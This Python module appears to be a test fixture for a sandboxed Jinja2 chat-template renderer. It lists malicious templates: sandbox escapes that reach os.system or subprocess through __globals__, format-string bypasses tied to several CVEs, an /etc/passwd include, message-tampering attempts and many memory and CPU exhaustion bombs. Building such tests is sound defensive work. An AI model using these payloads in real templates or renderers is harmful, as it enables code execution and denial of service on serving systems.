"""Chat templates that no honest model brings: ways out of a sandbox, and ways to use it up.

Knows no renderer; whoever tries them says what must become of them.
"""

from __future__ import annotations

MARKER = "@MARKER@"
_TOUCH = f"('touch {MARKER}')"
_BUILTINS = "['__builtins__']['__import__']('os').system" + _TOUCH
_SUBCLASSES = (
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == '_wrap_close' %}"
    f"{{{{ c.__init__.__globals__['system']{_TOUCH} }}}}{{% endif %}}{{% endfor %}}"
)
CALLS = [
    _SUBCLASSES,
    f"{{{{ cycler.__init__.__globals__.os.system{_TOUCH} }}}}",
    f"{{{{ joiner.__init__.__globals__.os.system{_TOUCH} }}}}",
    f"{{{{ namespace.__init__.__globals__.os.system{_TOUCH} }}}}",
    f"{{{{ lipsum.__globals__.os.system{_TOUCH} }}}}",
    f"{{{{ self.__init__.__globals__{_BUILTINS} }}}}",
    f"{{{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system{_TOUCH} }}}}",
    f"{{{{ raise_exception.__globals__{_BUILTINS} }}}}",
    f"{{{{ nothing.__init__.__globals__{_BUILTINS} }}}}",
    f"{{{{ cycler['__init__']['__globals__']['os']['system']{_TOUCH} }}}}",
    f"{{{{ cycler['\\x5f\\x5finit\\x5f\\x5f'].__globals__.os.system{_TOUCH} }}}}",
    f"{{{{ (cycler|attr('__init__')|attr('__globals__')).os.system{_TOUCH} }}}}",
    f"{{{{ (cycler|attr('__in' ~ 'it__')|attr('__glo' + 'bals__')).os.system{_TOUCH} }}}}",
    "{{ ([cycler]|map('attr', '__init__')|map('attr', '__globals__')|first)"
    f".os.system{_TOUCH} }}}}",
    f"{{{{ ([cycler]|map(attribute='__init__.__globals__')|first).os.system{_TOUCH} }}}}",
    f"{{{{ ([cycler]|groupby('__init__.__globals__.os.__name__')|map(attribute='list')|first|first)"
    f".__init__.__globals__.os.system{_TOUCH} }}}}",
    f"{{% macro m() %}}{{% endmacro %}}{{{{ m._func.__globals__{_BUILTINS} }}}}",
    f"{{% for x in [1] recursive %}}{{{{ loop.__init__.__globals__{_BUILTINS} }}}}{{% endfor %}}",
    f"{{{{ ([1]|map('upper')).gi_frame.f_globals{_BUILTINS} }}}}",
    f"{{{{ ([1]|select).gi_frame.f_builtins['__import__']('os').system{_TOUCH} }}}}",
    f"{{% set ns = namespace() %}}{{% set ns.f = cycler.__init__ %}}"
    f"{{{{ ns.f.__globals__.os.system{_TOUCH} }}}}",
    f"{{{{ dict(a=cycler.__init__).a.__globals__.os.system{_TOUCH} }}}}",
    f"{{% set f = cycler.next %}}{{{{ f.__globals__.os.system{_TOUCH} }}}}",
    "{{ cycler.__init__.__globals__.os.sys.modules['subprocess']"
    f".getoutput('touch {MARKER}') }}}}",
    f"{{{{ strftime_now.__globals__{_BUILTINS} }}}}",
]
"""Each runs a command where nothing holds it back: it makes the file MARKER."""

_GLOBALS = "{0.__init__.__globals__}"
READS = [
    # CVE-2016-10745 and what came after it: str.format reaches attributes
    f"{{{{ '{_GLOBALS}'.format(cycler).x.y }}}}",
    f"{{% set f = '{_GLOBALS}'.format %}}{{{{ f(cycler).x.y }}}}",
    # CVE-2024-56326: the method by a way round
    f"{{% set ns = namespace() %}}{{% set ns.f = '{_GLOBALS}'.format %}}{{{{ ns.f(cycler).x.y }}}}",
    f"{{{{ dict(f='{_GLOBALS}'.format).f(cycler).x.y }}}}",
    f"{{{{ ['{_GLOBALS}'.format][0](cycler).x.y }}}}",
    f"{{% macro m(f) %}}{{{{ f(cycler) }}}}{{% endmacro %}}{{{{ m('{_GLOBALS}'.format).x.y }}}}",
    f"{{% macro m() %}}{{{{ caller('{_GLOBALS}'.format) }}}}{{% endmacro %}}"
    "{% call(f) m() %}{{ f(cycler).x.y }}{% endcall %}",
    # CVE-2025-27516: and by the filter attr
    f"{{{{ ('{_GLOBALS}'|attr('format'))(cycler).x.y }}}}",
    f"{{{{ ('{_GLOBALS}'|attr('for' ~ 'mat'))(cycler).x.y }}}}",
    f"{{{{ (['{_GLOBALS}']|map('attr', 'format')|first)(cycler).x.y }}}}",
    f"{{{{ (['{_GLOBALS}']|map(attribute='format')|first)(cycler).x.y }}}}",
    "{{ ('{a.__init__.__globals__}'|attr('format_map'))({'a': cycler}).x.y }}",
    "{{ '{a.__init__.__globals__}'.format_map({'a': cycler}).x.y }}",
    "{{ '{a.__init__.__globals__}'.format(a=cycler).x.y }}",
    "{{ '{0.format.__self__.__class__}'.format('').x.y }}",
]
"""Attempts to read what is not theirs, after which each uses what it has read."""

FAILURES = [
    "{{ ''.__class__ }}{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ messages.__class__.__base__.__subclasses__()[0] }}",
    "{{ raise_exception.__globals__ }}{{ raise_exception.__globals__['json'] }}",
    "{{ strftime_now.__globals__['datetime'].sys }}",
    "{{ cycler.__init__.__globals__.os.system('id').read() }}",
    "{{ joiner.__init__.__globals__.os }}",
    "{{ namespace.__init__.__globals__.os }}",
    "{{ self.__init__.__globals__.os }}",
    "{{ self._TemplateReference__context.environment.x }}",
    "{{ (''|attr('__class__')).__mro__ }}",
    "{{ ('{0.__class__.__init__.__globals__}').format(raise_exception) }}",
    "{{ ''.format.__self__.__class__.x }}",
    "{% set f = '{0.__class__.mro}'.format %}{{ f(1) }}",
    "{{ [1]|map('attr', '__class__')|map('attr', '__mro__')|list }}{{ x.y }}",
    "{% import 'os' as os %}{{ os.x }}",
    "{% include '/etc/passwd' %}",
    "{% extends 'x' %}",
    "{{ messages.append({}) }}",
    "{{ messages[0].update({'role': 'system'}) }}",
    "{{ messages.clear() }}",
    "{{ lipsum(n=10) }}",
    "{{ config.items() }}",
    "{{ nothing.at.all }}",
    "{{ 1 / 0 }}",
    "{{ [1][5].x }}",
    "{{ 'x' + 1 }}",
    "{{ 'é'.encode('ascii') }}",
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
]
"""Older ways out, changes to what is passed in, and what simply fails."""

ESCAPES = [source.replace(MARKER, "/nowhere/marker") for source in CALLS] + READS + FAILURES

BOMBS = [
    "{{ 'a' * 10**9 }}",
    "{{ 10**9 * 'a' }}",
    "{{ [0] * 10**9 }}",
    "{{ 9 ** (9 ** 9) }}",
    "{{ 2 ** 'a' }}",
    "{% for i in range(10**9) %}x{% endfor %}",
    "{% for i in range(90000) %}{{ 'x' * 100 }}{% endfor %}",
    "{% set ns = namespace(x='a') %}{% for i in range(99) %}"
    "{% set ns.x = ns.x + ns.x %}{% endfor %}",
    "{% set ns = namespace(x='a') %}{% for i in range(99) %}"
    "{% set ns.x = ns.x ~ ns.x %}{% endfor %}",
    "{% set ns = namespace(x=[1]) %}{% for i in range(99) %}"
    "{% set ns.x = ns.x + ns.x %}{% endfor %}",
    "{{ '%999999999d' % 1 }}",
    "{{ '%*d' % (10**9, 1) }}",
    "{{ ('%(a)s' * 9999) % {'a': 'x' * 9999} }}",
    "{{ '%999999999d' | format(1) | length }}",
    "{{ '{:999999999}'.format(1) | length }}",
    "{{ '{:{}}'.format(1, 999999999) | length }}",
    "{{ '{:{w}}'.format(1, w=999999999) | length }}",
    "{{ ('{0}' * 9999).format('x' * 9999) | length }}",
    "{{ 'a'.center(10**10) }}",
    "{{ 'a'.ljust(10**10) }}",
    "{{ 'a'.rjust(10**10) }}",
    "{{ 'a'.zfill(10**10) }}",
    "{{ ('\t' * 9999).expandtabs(9999) }}",
    "{{ ('a' * 9999).replace('a', 'b' * 9999) }}",
    "{{ 'a' | center(10**10) }}",
    "{{ ('a' * 9999) | replace('a', 'b' * 9999) | length }}",
    "{{ (['x' * 9999] * 9999) | join | length }}",
    "{{ ''.join(['x' * 9999] * 9999) | length }}",
    "{{ 'a' | indent(10**10, first=true) }}",
    "{{ 'a\nb' | indent(width=10**10) }}",
    "{{ [1] | batch(10**10, 0) | list }}",
    "{{ ([[0] * 9999] * 9999) | sum(start=[]) | length }}",
    "{% set x = [0] * 9999 %}{{ ('%(a)s' * 9999) % {'a': x} }}",
    "{% set x = [0] * 9999 %}{{ ('{0}' * 9999).format(x) }}",
    "{% set n = namespace(a='x' * 9999) %}{{ ('{0.a}' * 9999).format(n) }}",
    "{{ '{a:999999999}'.format_map({'a': 1}) | length }}",
    "{{ '\t'.expandtabs(tabsize=999999999) | length }}",
    "{{ ('x' * 9999).join('a' * 9999) | length }}",
    "{{ ('x' * 9999).join(range(9999) | map('string')) | length }}",
    "{{ ('1' * 9999) | replace(1, 'b' * 9999) | length }}",
    "{{ ('\n' * 9999) | indent('x' * 9999) | length }}",
    "{{ ('a' * 9999).translate({97: 'x' * 9999}) | length }}",
    "{{ ('a' | attr('encode'))() }}",
    "{{ (1).to_bytes(999999999, 'big') | length }}",
    "{% set x = 10 ** 64 %}{{ x ** 64 > 1 }}",
    "{% set x = 10 ** 64 %}{% set x = x * x %}{% set x = x * x %}{% set x = x * x %}"
    "{% set x = x * x %}{% set x = x * x %}{{ x > 1 }}",
    "{% for i in range(99) %}{% set x = 'x' * 999999 %}{% endfor %}",
]
_DOUBLED = [
    ("'\"'", "{% set x = x|tojson %}", "{{ x|length }}"),
    ("'&'", "{% set x = (x ~ x)|forceescape|string %}", "{{ x|length }}"),
    ("'a'", "{% set x %}{{ x }}{{ x }}{% endset %}", "{{ x|length }}"),
    ("[1]", "{% set x = [x, x] %}", "{{ x }}"),
    ("[1]", "{% set x = (x, x) %}", "{{ x ~ '' }}"),
    ("[1]", "{% set x = {'a': x, 'b': x} %}", "{{ x == 1 }}"),
    ("[1]", "{% set x = dict(a=x, b=x) %}", "{{ x.items()|string|length }}"),
    ("'a'", "{% set x = twice(x) %}", "{{ x|length }}"),
]
_TWICE = "{% macro twice(x) %}{{ x }}{{ x }}{% endmacro %}"
DOUBLING = [f"{_TWICE}{{% set x = {first} %}}{more * 40}{last}" for first, more, last in _DOUBLED]
ENDLESS = [
    "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
    "{% set r = range(99999) %}{% for i in r %}{% for j in r %}{% endfor %}{% endfor %}",
    "{% set r = range(99999) %}{% for i in r %}{% for j in r if j < 0 %}{% endfor %}{% endfor %}",
    "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}",
    "{% set r = range(99999)|list %}{{ r|select('in', r)|list|length }}",
    "{% set r = range(99999)|list %}" + "{% if -1 in r %}{% endif %}" * 500,
    "{% set r = range(99999)|list %}" + "{% for i in r if i < 0 %}{% endfor %}" * 50,
]
ALL_BOMBS = [*BOMBS, *DOUBLING, *ENDLESS]
CHOSEN_BOMB = (
    "{% set chosen = messages[0].content %}"
    + "".join(
        f"{{% if chosen == '{number}' %}}{source}{{% endif %}}"
        for number, source in enumerate(ALL_BOMBS)
    )
    + "{{ chosen }}"
)
"""All in one template: the user says which."""
